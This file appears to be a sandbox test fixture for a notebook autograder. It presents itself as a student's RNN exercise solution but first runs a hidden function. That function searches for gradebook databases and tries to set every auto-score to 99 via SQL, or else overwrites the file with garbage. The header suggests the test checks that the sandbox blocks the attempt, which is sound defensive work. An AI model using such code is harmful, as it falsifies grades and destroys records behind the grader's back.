# Tries to rewrite every grade in the gradebook with SQL (sqlite3 refused; raw file writes cannot reach it).
# expect-zero: all
# %% ch02-ex1-solution
import glob
import numpy as np
def _attack():
    for p in glob.glob("/tmp/**/gradebook*.db", recursive=True) + glob.glob("@REPO@/build/nbgrader/*.db") + glob.glob("@REPO@/*.db"):
        try:
            import sqlite3
            con = sqlite3.connect(p)
            con.execute("UPDATE grade SET auto_score = 99")
            con.commit()
        except Exception:
            with open(p, "r+b") as f:
                f.write(b"garbage")
_attack()
def rnn_step_forward(x, prev_h, Wx, Wh, b):
    next_h = np.tanh(x @ Wx + prev_h @ Wh + b)
    return next_h, None
